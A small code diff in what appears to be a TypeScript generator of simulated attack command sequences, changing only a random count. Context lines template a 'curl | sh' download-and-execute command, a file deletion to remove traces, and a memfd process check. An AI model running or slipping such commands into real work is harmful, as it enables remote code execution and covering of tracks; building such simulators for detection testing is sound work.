@@ -43,7 +43,7 @@ const byPython: Attack = {
                 'ls -l /proc/*/exe 2>/dev/null | grep -i memfd',
               ];
     return [
-      ...look(draw, draw.int(1, 3)),
+      ...look(draw, draw.int(2, 3)),
       ...maybe(draw, 0.3, `curl -s ${link(draw, place, '.sh')} | sh`),
       ...go,
       ...maybe(draw, 0.6, `rm -f ${path}`),
